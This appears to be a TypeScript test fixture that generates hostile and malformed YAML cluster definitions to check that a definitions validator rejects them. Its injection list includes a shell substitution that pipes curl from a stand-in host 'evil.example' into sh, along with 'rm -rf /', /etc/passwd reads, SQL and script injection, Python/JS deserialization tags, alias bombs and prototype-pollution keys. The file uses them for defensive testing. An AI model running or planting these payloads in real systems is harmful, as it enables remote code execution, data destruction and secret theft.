// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are Terraform expressions on purpose, not JS templates.
/**
 * The corpus of definitions-corpus.test.ts: hostile and broken cluster definitions, mostly
 * generated, that a pull request could carry, each with the field and message its problem must
 * name; and the valid tree they are built from, for the valid controls.
 */
import { MAX_DEFINITION_BYTES } from "../../app/engine/definitions/load";
import { formatFieldPath } from "../../app/engine/definitions/problems";

export interface Case {
  name: string;
  yaml: string;
  /** The field a problem must name ("" for the file as a whole); omitted: any field. */
  field?: string;
  /** Part of that problem's message. */
  message?: RegExp;
}

// ---------------------------------------------------------------------------------------------
// Building definitions

/** A tree of settings whose leaves are raw YAML text, emitted as block mappings. */
export type Tree = { [key: string]: Tree | string };

export const valid = (): Tree => ({
  name: "dev",
  region: "eu-central-1",
  network: { adminCidrs: "[203.0.113.7/32]" },
  state: { bucket: "acme-tfstate" },
});

export function emit(tree: Tree, indent = ""): string {
  return Object.entries(tree)
    .map(([key, value]) =>
      typeof value === "string"
        ? `${indent}${key}: ${value}\n`
        : `${indent}${key}:\n${emit(value, `${indent}  `)}`,
    )
    .join("");
}

/** The valid definition with the raw YAML `value` at `path` (creating mappings on the way). */
export function withValue(path: readonly string[], value: string, tree: Tree = valid()): string {
  let node = tree;
  for (const key of path.slice(0, -1)) {
    const next = node[key];
    if (typeof next !== "object") node[key] = {};
    node = node[key] as Tree;
  }
  node[path.at(-1) as string] = value;
  return emit(tree);
}

export const BASE = emit(valid());
/** A YAML double-quoted scalar holding exactly `text` (JSON escapes are YAML escapes). */
export const quoted = (text: string) => JSON.stringify(text);
/** `prefix` followed by `item(i)` until the text is just under the size cap. */
export function fillTo(
  limit: number,
  prefix: string,
  item: (i: number) => string,
  suffix = "",
): string {
  const parts = [prefix];
  let length = prefix.length + suffix.length;
  for (let i = 0; ; i++) {
    const next = item(i);
    if (length + next.length > limit) break;
    parts.push(next);
    length += next.length;
  }
  return parts.join("") + suffix;
}
export const NEAR_CAP = MAX_DEFINITION_BYTES - 64;

// ---------------------------------------------------------------------------------------------
// 1. Wrong types, for every field of the schema

export type Kind = "string" | "int" | "boolean" | "list" | "map";
export const FIELDS: [string, Kind][] = [
  ["name", "string"],
  ["region", "string"],
  ["network", "map"],
  ["network.vpcCidr", "string"],
  ["network.azCount", "int"],
  ["network.availabilityZones", "list"],
  ["network.adminCidrs", "list"],
  ["network.ingressCidrs", "list"],
  ["network.natGateways", "string"],
  ["network.apiEndpoint", "string"],
  ["network.subnets", "map"],
  ["network.subnets.private", "list"],
  ["controlPlane", "map"],
  ["controlPlane.count", "int"],
  ["controlPlane.instanceType", "string"],
  ["controlPlane.rootVolumeGb", "int"],
  ["workers", "map"],
  ["workers.min", "int"],
  ["workers.max", "int"],
  ["workers.instanceType", "string"],
  ["workers.spot", "boolean"],
  ["workers.scaling", "string"],
  ["workers.cpuTarget", "int"],
  ["workers.drainTimeoutSeconds", "int"],
  ["datastore.engine", "string"],
  ["datastore.instanceClass", "string"],
  ["datastore.postgresVersion", "string"],
  ["datastore.storageGb", "int"],
  ["datastore.multiAz", "boolean"],
  ["datastore.backupRetentionDays", "int"],
  ["datastore.deletionProtection", "boolean"],
  ["storage.efs", "boolean"],
  ["k3s.version", "string"],
  ["k3s.clusterCidr", "string"],
  ["addons.ingress", "string"],
  ["addons.jenkins", "boolean"],
  ["state", "map"],
  ["state.bucket", "string"],
  ["state.lockTable", "string"],
  ["state.key", "string"],
  ["state.region", "string"],
  ["state.kmsKeyId", "string"],
  ["aws.accountId", "string"],
  ["aws.roleArn", "string"],
  ["tags", "map"],
];

/** Two values of the wrong type for each kind, and null (which no field accepts). */
export const WRONG: Record<Kind, string[]> = {
  string: ["[a, b]", "{ a: 1 }", "~"],
  int: ['"many"', "2.5", "[1]"],
  boolean: ["1", "{ on: true }", "~"],
  list: ["203.0.113.7/32", "{ a: 1 }", "~"],
  map: ["a-string", "[1, 2]", "~"],
};

export const wrongTypeCases: Case[] = FIELDS.flatMap(([field, kind]) =>
  (WRONG[kind] ?? []).map((value) => ({
    name: `wrong type: ${field}: ${value}`,
    yaml: withValue(field.split("."), value),
    field,
  })),
);

// ---------------------------------------------------------------------------------------------
// 2. Nasty strings in every free-text field: injections, traversal, invisible characters

export const NASTY: [string, string][] = [
  ["terraform interpolation", '${file("/proc/self/environ")}'],
  ["terraform directive", "%{ for k, v in var }x%{ endfor }"],
  ["escaped interpolation", "$${literal}"],
  ["shell substitution", "$(curl evil.example | sh)"],
  ["backticks", "`id`"],
  ["shell separator", "dev; rm -rf /"],
  ["quote breakout", 'dev" && cat /etc/passwd #'],
  ["sql-ish quote", "'; DROP TABLE locks; --"],
  ["path traversal", "../../../etc/passwd"],
  ["windows traversal", "..\\..\\windows\\system32"],
  ["RTL override", "dev\u202Eved"],
  ["zero-width space", "de\u200Bv"],
  ["BOM inside", "dev\uFEFF"],
  ["direction isolate", "dev\u2066x\u2069"],
  ["homoglyph (Cyrillic e)", "d\u0435v"],
  ["NUL", "dev\u0000"],
  ["newline", "dev\nregion: us-east-1"],
  ["lone surrogate", "dev\uD800"],
  ["html", "<script>alert(1)</script>"],
];

/** Where a string goes, how to put one there, and the field a problem must then name. */
export const STRING_FIELDS: {
  field: string;
  yaml: (text: string) => string;
  path: (string | number)[];
}[] = [
  ...[
    "name",
    "region",
    "controlPlane.instanceType",
    "workers.instanceType",
    "datastore.instanceClass",
    "k3s.version",
    "k3s.clusterCidr",
    "state.bucket",
    "state.lockTable",
    "state.key",
    "state.region",
    "state.kmsKeyId",
    "aws.accountId",
    "aws.roleArn",
    "tags.team",
  ].map((field) => ({
    field,
    path: field.split("."),
    yaml: (text: string) => withValue(field.split("."), quoted(text)),
  })),
  {
    field: "network.adminCidrs[0]",
    path: ["network", "adminCidrs", 0],
    yaml: (text: string) => withValue(["network", "adminCidrs"], `[${quoted(text)}]`),
  },
  {
    field: "network.availabilityZones[0]",
    path: ["network", "availabilityZones", 0],
    yaml: (text: string) =>
      withValue(["network", "availabilityZones"], `[${quoted(text)}, eu-central-1b]`),
  },
];

/**
 * Tags are free text under AWS' rules (letters of any script, digits, spaces, `_.:/=+-@`): a
 * Cyrillic letter or `../` there is a plain tag, not an attack. Every other pair must fail.
 */
export const PLAIN_TAG_TEXT = new Set(["homoglyph (Cyrillic e)", "path traversal"]);

export const nastyValueCases: Case[] = STRING_FIELDS.flatMap(({ field, yaml, path }) =>
  NASTY.filter(([label]) => !(field === "tags.team" && PLAIN_TAG_TEXT.has(label))).map(
    ([label, text]) => ({
      name: `nasty ${field}: ${label}`,
      yaml: yaml(text),
      field: formatFieldPath(path),
    }),
  ),
);

export const nastyKeyCases: Case[] = NASTY.filter(([label]) => !PLAIN_TAG_TEXT.has(label)).map(
  ([label, text]) => ({
    name: `nasty tag key: ${label}`,
    yaml: withValue(["tags"], `{ ${quoted(text)}: x }`),
    field: formatFieldPath(["tags", text]),
  }),
);

// ---------------------------------------------------------------------------------------------
// 3. Structure: size, nesting, aliases, duplicates, documents, tags, roots, encodings

export const billionLaughs = (levels: number, width: number) =>
  [
    `l0: &l0 "lol"`,
    ...Array.from(
      { length: levels },
      (_, i) => `l${i + 1}: &l${i + 1} [${Array(width).fill(`*l${i}`).join(", ")}]`,
    ),
    BASE,
  ].join("\n");

export const structureCases: Case[] = [
  // Size
  {
    name: "comments past the size cap",
    yaml: `${BASE}# ${"x".repeat(MAX_DEFINITION_BYTES)}\n`,
    field: "",
    message: /at most 32 KiB/,
  },
  {
    name: "8 MiB on one line",
    yaml: `name: ${"a".repeat(8 * 1024 * 1024)}\n`,
    field: "",
    message: /at most 32 KiB/,
  },
  {
    name: "multi-byte characters past the cap (bytes, not characters, count)",
    yaml: `${BASE}# ${"€".repeat(MAX_DEFINITION_BYTES / 3 + 10)}\n`,
    field: "",
    message: /KiB/,
  },
  {
    name: "thousands of unknown keys",
    yaml: fillTo(NEAR_CAP, BASE, (i) => `k${i}: 1\n`),
    message: /unknown key|more problems/,
  },
  {
    name: "thousands of tags",
    yaml: fillTo(NEAR_CAP, `${BASE}tags:\n`, (i) => `  t${i}: v\n`),
    field: "tags",
    message: /at most 40/,
  },
  {
    name: "thousands of tags in one flow mapping",
    yaml: fillTo(NEAR_CAP, `${BASE}tags: {`, (i) => `t${i}: v, `, "}\n"),
    field: "tags",
  },
  {
    name: "thousands of admin CIDRs",
    yaml: withValue(
      ["network", "adminCidrs"],
      fillTo(NEAR_CAP - 200, "[", () => "203.0.113.7/32, ", "203.0.113.7/32]"),
    ),
    field: "network.adminCidrs",
    message: /at most 50/,
  },
  {
    name: "a tag value of 20,000 characters",
    yaml: withValue(["tags", "team"], "x".repeat(20_000)),
    field: "tags.team",
  },
  {
    name: "a key of 20,000 characters",
    yaml: `${BASE}${"k".repeat(20_000)}: 1\n`,
    field: "",
    message: /at most 1024 chars/,
  },
  {
    name: "one YAML error per character",
    yaml: fillTo(NEAR_CAP, "", () => "]\n"),
    field: "",
  },
  {
    name: "empty flow items to the cap",
    yaml: fillTo(NEAR_CAP, `${BASE}x: [`, () => ",", "]\n"),
    field: "",
  },
  {
    name: "nested compact mappings to the cap",
    yaml: fillTo(NEAR_CAP, "", () => ": : :\n"),
    field: "",
  },
  {
    name: "the same key thousands of times",
    yaml: fillTo(NEAR_CAP, BASE, () => "name: dev\n"),
    field: "name",
    message: /duplicate key/,
  },
  {
    name: "thousands of anchors",
    yaml: fillTo(NEAR_CAP, `${BASE}tags:\n`, (i) => `  t${i}: &a${i} v\n`),
    field: "tags",
  },
  {
    name: "thousands of documents",
    yaml: fillTo(NEAR_CAP, "", () => `---\n${BASE}`),
    field: "",
    message: /more than one YAML document/,
  },
  // Nesting
  ...[33, 1000, 15_000].map((depth) => ({
    name: `flow lists nested ${depth} deep`,
    yaml: `${BASE}x: ${"[".repeat(depth)}${"]".repeat(depth)}\n`,
    field: "",
    message: /nests deeper than 32/,
  })),
  ...[33, 5000].map((depth) => ({
    name: `flow mappings nested ${depth} deep`,
    yaml: `${BASE}x: ${"{a: ".repeat(depth)}1${"}".repeat(depth)}\n`,
    field: "",
    message: /nests deeper than 32/,
  })),
  {
    name: "flow brackets never closed",
    yaml: `${BASE}x: ${"[{".repeat(5000)}\n`,
    field: "",
    message: /nests deeper than 32/,
  },
  ...[40, 150].map((depth) => ({
    name: `block mappings nested ${depth} deep`,
    yaml: `${Array.from({ length: depth }, (_, i) => `${" ".repeat(i)}a:`).join("\n")} 1\n`,
    field: "",
    message: /nests/,
  })),
  ...[40, 10_000].map((depth) => ({
    name: `compact block lists nested ${depth} deep`,
    yaml: `${BASE}x:\n  ${"- ".repeat(depth)}1\n`,
    field: "",
    message: /nests deeper than 32/,
  })),
  {
    name: "deep nesting inside a real field",
    yaml: withValue(["workers", "min"], `${"[".repeat(40)}1${"]".repeat(40)}`),
    field: "",
    message: /nests deeper than 32/,
  },
  {
    name: "brackets inside quotes do not count, an unknown key still does",
    yaml: `${BASE}x: "${"[".repeat(100)}"\n`,
    field: "x",
    message: /unknown key/,
  },
  // Aliases
  {
    name: "billion laughs (9 × 9 levels)",
    yaml: billionLaughs(9, 9),
    field: "",
    message: /expands aliases/,
  },
  {
    name: "billion laughs (30 × 2 levels)",
    yaml: billionLaughs(30, 2),
    field: "",
    message: /expands aliases/,
  },
  {
    name: "billion laughs hidden in a tag value",
    yaml: `a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n${withValue(["tags", "team"], "[*b, *b, *b, *b, *b, *b, *b, *b]")}`,
    field: "",
    message: /expands aliases/,
  },
  {
    name: "quadratic blow-up: one large anchor aliased many times",
    yaml: `big: &big [${Array(2000).fill("xxxxxxxx").join(", ")}]\n${BASE}copies: [${Array(50).fill("*big").join(", ")}]\n`,
    field: "",
    message: /expands aliases/,
  },
  {
    name: "an alias of itself",
    yaml: `${BASE}x: &a [*a]\n`,
  },
  { name: "an undefined alias", yaml: `${BASE}x: *nowhere\n`, field: "" },
  {
    name: "an alias as a key",
    yaml: `k: &k name\n${BASE.replace("name: dev\n", "")}*k : dev\n`,
  },
  {
    name: "merge key (YAML 1.1) is not merged",
    yaml: `base: &base { min: 1 }\n${BASE}workers:\n  <<: *base\n`,
    message: /unknown key/,
  },
  // Duplicates
  { name: "duplicate top-level key", yaml: `${BASE}name: prod\n`, field: "name" },
  {
    name: "duplicate nested key",
    yaml: `${BASE}workers:\n  min: 1\n  min: 3\n`,
    field: "workers.min",
    message: /duplicate key/,
  },
  { name: "duplicate key, once quoted", yaml: `${BASE}"name": prod\n`, field: "name" },
  { name: "duplicate key, once explicit", yaml: `${BASE}? name\n: prod\n`, field: "name" },
  {
    name: "duplicate key in a flow mapping",
    yaml: `${BASE}tags: { a: x, a: y }\n`,
    field: "tags.a",
  },
  // Documents and directives
  { name: "two documents", yaml: `${BASE}---\n${BASE}`, message: /more than one YAML document/ },
  { name: "document end then more", yaml: `${BASE}...\nname: prod\n`, field: "" },
  {
    name: "YAML 1.1 directive with 1.1 booleans",
    yaml: `%YAML 1.1\n---\n${BASE}workers: { spot: yes }\n`,
  },
  {
    name: "TAG directive to a foreign namespace",
    yaml: `%TAG !e! tag:evil.example,2000:\n---\n${BASE}x: !e!thing 1\n`,
    field: "",
  },
  // Language-specific tags
  ...[
    '!!js/function "function () { return process.exit(1) }"',
    "!!js/regexp /(a+)+$/",
    "!!js/undefined ''",
    '!!python/object/apply:os.system ["id"]',
    "!!python/name:os.system",
    "!ruby/object:Gem::Installer {}",
    '!<tag:yaml.org,2002:js/function> "x"',
    "!custom 1",
  ].map((value) => ({
    name: `language tag ${value.split(" ")[0]}`,
    yaml: withValue(["tags", "team"], value),
    field: "",
    message: /unknown tag/,
  })),
  {
    name: "!!binary where a string belongs",
    yaml: withValue(["name"], "!!binary ZGV2"),
    field: "name",
  },
  { name: "!!set where a list belongs", yaml: withValue(["network", "adminCidrs"], "!!set { a }") },
  { name: "!!omap where a mapping belongs", yaml: withValue(["tags"], "!!omap [ a: b ]") },
  {
    name: "!!float on a whole number",
    yaml: withValue(["workers", "min"], "!!float 1"),
    field: "",
    message: /unknown tag `!!float`/,
  },
  {
    name: "!!str on a number",
    yaml: withValue(["workers", "min"], "!!str 1"),
    field: "workers.min",
  },
  // Roots
  { name: "empty file", yaml: "", field: "", message: /is empty/ },
  { name: "only comments", yaml: "# nothing\n# here\n", field: "", message: /is empty/ },
  { name: "explicit null", yaml: "~\n", field: "", message: /is empty/ },
  { name: "a scalar", yaml: "hello\n", field: "", message: /expected a mapping/ },
  { name: "a list", yaml: "- name: dev\n", field: "", message: /expected a mapping/ },
  { name: "a number", yaml: "42\n", field: "", message: /expected a mapping/ },
  { name: "only a document marker", yaml: "---\n", field: "", message: /is empty/ },
  // Keys
  { name: "a list as a key", yaml: `${BASE}? [a, b]\n: c\n`, message: /plain names/ },
  { name: "a mapping as a key", yaml: `${BASE}? { a: 1 }\n: c\n`, message: /plain names/ },
  {
    name: "__proto__ at the top",
    yaml: `${BASE}__proto__: { polluted: true }\n`,
    field: "__proto__",
  },
  {
    name: "__proto__ in tags",
    yaml: withValue(["tags"], "{ __proto__: x }"),
    field: "tags.__proto__",
  },
  {
    name: "__proto__ mapping in tags",
    yaml: withValue(["tags"], "{ __proto__: { isAdmin: true } }"),
    field: "tags.__proto__",
  },
  ...["constructor", "__proto__", "toString", "hasOwnProperty"].flatMap((word) => [
    {
      name: `region named ${word}`,
      yaml: withValue(["region"], word),
      field: "region",
      message: /unknown AWS region/,
    },
    {
      name: `state.region named ${word}`,
      yaml: withValue(["state", "region"], word),
      field: "state.region",
      message: /unknown AWS region/,
    },
  ]),
  { name: "RTL override in a key", yaml: `${BASE}wor\u202Ekers: {}\n` },
  { name: "zero-width space in a key", yaml: `${BASE}work\u200Bers: {}\n` },
  { name: "fullwidth colon", yaml: "name\uFF1A dev\n", field: "" },
  // Syntax
  { name: "tab indentation", yaml: `${BASE}workers:\n\tmin: 1\n`, field: "", message: /tabs/ },
  { name: "unterminated double quote", yaml: `${BASE}tags: { a: "x }\n`, field: "" },
  { name: "unterminated single quote", yaml: `name: 'dev\n${BASE.slice(10)}`, field: "" },
  { name: "unterminated flow list", yaml: `${BASE}x: [1, 2\n`, field: "" },
  { name: "mapping value in a plain scalar", yaml: `${BASE}x: a: b\n`, field: "" },
  { name: "bad indentation", yaml: `${BASE}workers:\n  min: 1\n max: 3\n`, field: "" },
  { name: "raw NUL byte in the text", yaml: `${BASE}\u0000\n`, field: "" },
  { name: "raw escape sequences in the text", yaml: `${BASE}x: \u001b[31mred\n` },
  { name: "a lone CR line ending mix", yaml: `${BASE}x: 1\r\r\ny: 2\n` },
];

// ---------------------------------------------------------------------------------------------
// 4. Random junk, from a fixed seed so failures reproduce

export function junk(seed: number, length: number): string {
  let state = seed;
  const next = () => {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    return state;
  };
  const alphabet = "ab: -[]{}&*!|>'\"#%@`,?\n\t\\$";
  return Array.from({ length }, () => alphabet[next() % alphabet.length]).join("");
}

export const junkCases: Case[] = Array.from({ length: 20 }, (_, i) => ({
  name: `random junk #${i}`,
  yaml: junk(i + 1, 200 + i * 1500),
}));

// ---------------------------------------------------------------------------------------------

export const CORPUS: Case[] = [
  ...wrongTypeCases,
  ...nastyValueCases,
  ...nastyKeyCases,
  ...structureCases,
  ...junkCases,
];
